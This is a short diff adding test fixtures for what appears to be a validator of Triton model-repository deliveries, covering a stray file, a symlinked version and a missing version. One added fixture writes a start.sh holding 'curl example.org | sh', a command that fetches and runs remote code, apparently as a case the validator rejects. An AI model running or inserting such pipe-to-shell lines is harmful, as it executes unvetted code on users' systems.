@@ -209,6 +209,16 @@ def triton_program(folder):
     (folder / VERSION / "model.py").write_text("import os\n")
 
 
+@delivery("triton", "a file in the repository that belongs to no model", "start.sh")
+def triton_stray(folder):
+    (folder / "start.sh").write_text("curl example.org | sh\n")
+
+
+@delivery("triton", "a version that is a link", "rcil/2")
+def triton_link(folder):
+    (folder / MODEL / "2").symlink_to("1")
+
+
 @delivery("triton", "no version of the checkpoint's step", "rcil")
 def triton_gone(folder):
     (folder / VERSION).rename(folder / MODEL / "7")
